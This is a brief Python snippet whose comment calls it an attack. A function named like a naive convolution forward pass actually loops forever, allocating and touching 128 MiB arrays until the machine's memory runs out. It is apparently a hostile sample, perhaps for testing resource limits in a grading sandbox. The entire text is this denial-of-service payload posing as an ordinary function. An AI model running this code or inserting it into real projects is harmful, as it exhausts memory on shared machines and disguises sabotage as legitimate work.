# Attack: allocate and touch memory until something gives (the machine, if nothing limits it).
_hoard = []


def conv_forward_naive(x, w, b, conv_param):
    while True:
        _hoard.append(np.ones(16 * 1024 * 1024))  # 128 MiB, touched
